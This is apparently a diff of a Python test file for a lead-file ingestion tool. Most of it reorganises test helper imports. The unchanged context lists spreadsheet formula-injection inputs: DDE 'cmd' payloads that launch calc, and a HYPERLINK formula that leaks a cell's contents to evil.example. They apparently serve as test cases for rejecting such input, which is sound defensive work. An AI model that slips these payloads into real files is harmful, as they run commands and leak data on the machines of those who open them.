@@ -23,16 +23,10 @@ from hypothesis import strategies as st
 
 from enrichment_assets.leads.ingest import LeadFileError, check_lead_file, ingest_lead_file
 from enrichment_assets.storage.warehouse import ensure_schema
-from enrichment_assets_tests.reliability.helpers import (
-    WORLD,
-    fast_sandbox_config,
-    lead_row,
-    no_traceback,
-    prepare_env,
-    query,
-    run_enrich,
-    write_config,
-)
+from enrichment_assets_tests.support.cli import no_traceback, prepare_env, run_enrich
+from enrichment_assets_tests.support.files import lead_row, write_config
+from enrichment_assets_tests.support.sandbox import WORLD, fast_sandbox_config
+from enrichment_assets_tests.support.tables import query
 
 FORMULAS = ["=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
             '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "=1+1", "+1-1", "@A1"]
